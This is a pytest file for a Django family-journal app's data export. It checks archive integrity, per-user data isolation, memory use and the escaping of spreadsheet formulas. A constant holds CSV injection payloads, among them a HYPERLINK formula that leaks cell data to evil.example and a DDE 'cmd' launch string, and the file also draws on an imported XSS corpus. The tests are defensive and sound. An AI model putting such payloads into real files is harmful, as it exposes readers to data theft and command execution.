"""What somebody takes along: all of their own, none of anybody else's, and nothing that a program would run."""

from __future__ import annotations

import csv
import gc
import hashlib
import io
import json
import tracemalloc
import uuid
import zipfile
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta
from typing import Any

import pytest
from django.apps import apps
from django.db import connection
from django.test.utils import CaptureQueriesContext

from accounts.models import User
from common.estates import Table, list_estates
from common.export import FORMULA_STARTS, SCHEMA, as_csv, as_json, cell, list_tables, stream_export
from households.models import Child, Grant, Household, Membership
from households.rules import GRANT_LIFETIME
from households.services import leave_household, return_grant, withdraw_grant
from observations.models import Observation
from observations.services import delete_moment, edit_moment
from reflections.services import compile_week, write_thought
from tests.guards.xss_corpus import PAYLOADS

SECRET = "Xylophone-secret"
PYTHONS_OWN = (700, 10, 10)  # how often garbage is looked for, in production
WHAT_FOLLOWS = ("1+1", "SUM(A1:A9)", 'HYPERLINK("http://evil.example/?"&A1)', "cmd|' /C calc'!A0", "A1", "2")
FORMULAS = [start + rest for start in FORMULA_STARTS for rest in WHAT_FOLLOWS]


def take(user: User, now: datetime) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(b"".join(stream_export(person_id=user.pk, now=now))))


def rows(archive: zipfile.ZipFile, table: str) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = json.loads(archive.read(f"json/{table}.json"))
    return found


def sheet(archive: zipfile.ZipFile, table: str) -> list[dict[str, str]]:
    text = archive.read(f"csv/{table}.csv").decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def table_of(*values: Any) -> Table:
    return Table("t", "A table.", ("value",), lambda: iter([(value,) for value in values]))


class TestFile:
    def test_says_what_it_is_and_sums_up_every_other_file(self, parent: User, now: datetime) -> None:
        archive = take(parent, now)
        assert archive.testzip() is None
        *others, last = archive.namelist()
        assert last == "manifest.json"
        manifest = json.loads(archive.read(last))
        assert manifest["schema"] == SCHEMA
        assert [file["name"] for file in manifest["files"]] == others
        for file in manifest["files"]:
            body = archive.read(file["name"])
            assert (len(body), hashlib.sha256(body).hexdigest()) == (file["bytes"], file["sha256"])
        readme = archive.read("README.txt").decode()
        assert all(table in readme for table in manifest["tables"])

    def test_every_table_is_there_twice_and_explained(self, parent: User, now: datetime) -> None:
        tables = list_tables(person_id=parent.pk, now=now)
        assert len({table.name for table in tables}) == len(tables) > 15
        assert all(len(table.about) > 10 for table in tables)
        names = set(take(parent, now).namelist())
        assert {f"{kind}/{table.name}.{kind}" for table in tables for kind in ("json", "csv")} < names

    def test_the_json_reads_back_as_the_rows_and_the_csv_says_the_same(
        self, record: Callable[..., Observation], parent: User, now: datetime
    ) -> None:
        record(tone="missed", details={"note": "One\n“two”, three;", "ratings": {"needs": 2, "self": 1}})
        archive = take(parent, now)
        for table in list_tables(person_id=parent.pk, now=now):
            exact = [dict(zip(table.columns, row, strict=True)) for row in table.rows()]
            assert rows(archive, table.name) == json.loads(b"".join(as_json(table))), table.name
            assert len(exact) == len(rows(archive, table.name)), table.name
            shown = [{name: cell(value) for name, value in row.items()} for row in exact]
            assert sheet(archive, table.name) == shown, table.name
        [moment] = rows(archive, "moments")
        assert moment["note"] == "One\n“two”, three;"
        assert datetime.fromisoformat(moment["occurred_at"]) == now
        assert {row["child_id"] for row in rows(archive, "ratings")} == {moment["child_id"]}
        assert {row["observation_id"] for row in rows(archive, "ratings")} == {moment["id"]}

    def test_one_that_broke_off_does_not_open(
        self, parent: User, now: datetime, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        sent = []

        def breaks() -> Iterator[tuple[str]]:
            yield from (("x",) for _row in range(50_000))
            raise RuntimeError

        broken = Table("broken", "A table.", ("value",), breaks)
        tables = [table_of(uuid.uuid4().hex * 5_000), broken, table_of("never")]
        monkeypatch.setattr("common.export.list_tables", lambda **_: tables)
        with pytest.raises(RuntimeError):
            sent.extend(stream_export(person_id=parent.pk, now=now))
        with pytest.raises(zipfile.BadZipFile):
            zipfile.ZipFile(io.BytesIO(b"".join(sent)))
        assert b"manifest.json" not in b"".join(sent)


class TestHostileText:
    def test_there_are_enough_of_them(self) -> None:
        assert len(FORMULAS) >= 60

    def test_no_cell_begins_as_a_formula_does(self) -> None:
        table = table_of(*FORMULAS, *(f" {formula}" for formula in FORMULAS), *PAYLOADS)
        text = b"".join(as_csv(table)).decode("utf-8-sig")
        cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))]
        assert len(cells) == 1 + 2 * len(FORMULAS) + len(PAYLOADS)
        assert [found for found in cells if found.lstrip(" \u3000\u00a0").startswith(FORMULA_STARTS)] == []

    @pytest.mark.parametrize("value", ["plain", "1", "a=b", "", None, True, 7, [1], {"a": 1}])
    def test_what_is_no_formula_is_left_alone(self, value: Any) -> None:
        assert not cell(value).startswith("'")

    def test_every_text_comes_back_as_it_was_written(
        self, record: Callable[..., Observation], parent: User, now: datetime
    ) -> None:
        texts = [text for text in (*PAYLOADS, *FORMULAS) if len(text) < 4_000]
        written = [record(details={"note": text}).note for text in texts]
        archive = take(parent, now)
        assert [row["note"] for row in rows(archive, "moments")] == written
        cells = [row["note"] for row in sheet(archive, "moments")]
        assert [found for found in cells if found.startswith(FORMULA_STARTS)] == []
        assert [found.removeprefix("'") for found in cells] == [note.removeprefix("'") for note in written]


class TestWhose:
    def test_each_gets_their_own_and_no_byte_of_anothers(
        self,
        record: Callable[..., Observation],
        parent: User,
        co_parent: User,
        household: Household,
        now: datetime,
    ) -> None:
        private = record(details={"note": SECRET, "ratings": {"self": 1}})
        shared = record(details={"note": SECRET, "visibility": "household"})
        record(co_parent, details={"note": "Mine.", "visibility": "household"})
        compile_week(household_ids=[household.pk], label="2026-W47", now=now)
        write_thought(actor_id=parent.pk, label="2026-W47", text=SECRET, visibility="household", now=now)
        archive = take(co_parent, now)
        everything = b"".join(archive.read(name) for name in archive.namelist()).decode()
        assert [row["note"] for row in rows(archive, "moments")] == ["Mine."]
        for theirs in (SECRET, private.public_id, shared.public_id, parent.public_id, parent.email):
            assert str(theirs) not in everything

    def test_a_miss_of_anothers_is_named_only_while_it_may_be_seen(
        self,
        record: Callable[..., Observation],
        parent: User,
        co_parent: User,
        now: datetime,
    ) -> None:
        miss = record(tone="missed", details={"visibility": "household"}, now=now - timedelta(hours=1))
        back = record(co_parent, tone="came_back", details={"repairs": miss.public_id})
        edit_moment(actor_id=co_parent.pk, moment_id=back.public_id, details={"note": "More."}, now=now)
        assert rows(take(co_parent, now), "moments")[0]["comes_back_to"] == str(miss.public_id)
        edit_moment(actor_id=parent.pk, moment_id=miss.public_id, details={"visibility": "private"}, now=now)
        archive = take(co_parent, now)
        assert rows(archive, "moments")[0]["comes_back_to"] is None
        assert rows(archive, "revisions")[0]["state"]["repairs"] is None

    def test_deleted_ones_and_earlier_versions_are_in_it(
        self, record: Callable[..., Observation], parent: User, now: datetime
    ) -> None:
        moment = record(details={"note": "First."})
        edit_moment(actor_id=parent.pk, moment_id=moment.public_id, details={"note": "Second."}, now=now)
        delete_moment(actor_id=parent.pk, moment_id=moment.public_id, now=now)
        archive = take(parent, now)
        assert [row["note"] for row in rows(archive, "moments")] == ["Second."]
        assert rows(archive, "moments")[0]["deleted_at"]
        assert [row["note"] for row in rows(archive, "revisions")] == ["First."]

    def test_of_a_household_that_was_left_only_ones_own_words(
        self,
        record: Callable[..., Observation],
        co_parent: User,
        household: Household,
        child: Child,
        now: datetime,
    ) -> None:
        record(co_parent, details={"note": "Mine."})
        leave_household(actor_id=co_parent.pk, household_id=household.public_id, now=now)
        archive = take(co_parent, now)
        assert [row["note"] for row in rows(archive, "moments")] == ["Mine."]
        assert [row["name"] for row in rows(archive, "households")] == [""]
        assert rows(archive, "children") == []
        assert child.nickname not in b"".join(archive.read(name) for name in archive.namelist()).decode()

    @pytest.mark.parametrize("end", ["withdrawn", "returned", "run out"])
    def test_a_coach_is_told_of_no_ending(
        self, end: str, give: Callable[..., Grant], coach: User, parent: User, now: datetime
    ) -> None:
        grant, later = give(), now + timedelta(days=1)
        (held,) = rows(take(coach, now), "coaching")
        assert held["id"] == str(grant.public_id)
        assert not {"withdrawn_at", "returned_at"} & set(held)
        if end == "withdrawn":
            withdraw_grant(actor_id=parent.pk, grant_id=grant.public_id, now=now)
        elif end == "returned":
            return_grant(actor_id=coach.pk, grant_id=grant.public_id, now=now)
        else:
            later = now + GRANT_LIFETIME
        archive = take(coach, later)
        assert rows(archive, "coaching") == []
        assert str(grant.public_id).encode() not in b"".join(map(archive.read, archive.namelist()))
        assert [row["id"] for row in rows(take(parent, later), "grants")] == [str(grant.public_id)]

    def test_every_model_that_is_erased_can_be_taken_along(
        self, record: Callable[..., Observation], parent: User, now: datetime
    ) -> None:
        # Whatever is destroyed with a person was theirs: a table reads it, or here stands why none does.
        left_out = {
            "admin.LogEntry": "what an operator did",
            "account.EmailConfirmation": "a code that has run out",
            "households.GrantChild": "its children stand in the row of each grant",
            "observations.RecordLink": "hashes of what stands in other tables, without a word",
            "observations.SyncOp": "a hash of what a phone sent; its words are moments or drafts",
            "observations.FeedEntry": "when a moment changed, which its own row says",
            "observations.OwnPlace": "the order of questions, which each version names",
        }
        record(details={"note": "Mine.", "ratings": {"self": 1}})
        with CaptureQueriesContext(connection) as asked:
            for table in list_tables(person_id=parent.pk, now=now):
                list(table.rows())
        read = " ".join(query["sql"] for query in asked.captured_queries)
        erased = {holding.model for estate in list_estates() for holding in estate.holdings if holding.owner}
        unread = {name for name in erased if f'FROM "{apps.get_model(name)._meta.db_table}"' not in read}
        assert unread == set(left_out)


class TestSize:
    MANY = 20_000

    @pytest.fixture
    def much(self, record: Callable[..., Observation], parent: User) -> None:
        first = record(details={"note": "A note of the usual length, as somebody writes it at night."})
        columns = {
            field.attname: getattr(first, field.attname)
            for field in Observation._meta.concrete_fields
            if field.attname not in ("id", "public_id")
        }
        made = (Observation(**columns, public_id=uuid.uuid4()) for _number in range(self.MANY - 1))
        Observation.objects.bulk_create(made, batch_size=1_000)

    @pytest.mark.once
    @pytest.mark.timeout(400)  # watching every allocation takes its time
    def test_memory_stays_flat_over_twenty_thousand_moments(
        self, much: None, parent: User, now: datetime, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr("common.sealed.SealedText.__get__", lambda *_: "Opening is not what is measured.")
        seldom = gc.get_threshold()
        gc.set_threshold(*PYTHONS_OWN)
        gc.collect()
        tracemalloc.start()
        try:
            sent = sum(map(len, stream_export(person_id=parent.pk, now=now)))
            _now, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
            gc.set_threshold(*seldom)
        assert sent > 900_000
        assert peak < 8_000_000

    def test_ten_more_rows_ask_no_more_questions(
        self, record: Callable[..., Observation], parent: User, co_parent: User, now: datetime
    ) -> None:
        def questions() -> int:
            with CaptureQueriesContext(connection) as asked:
                take(parent, now)
            return len(asked)

        shared = {"visibility": "household"}
        miss = record(co_parent, tone="missed", details=shared, now=now - timedelta(hours=1))
        record(tone="came_back", details={"repairs": miss.public_id})
        few = questions()
        for _time in range(10):
            record(tone="came_back", details={"repairs": miss.public_id})
        assert questions() == few
        assert Membership.objects.count() == 2
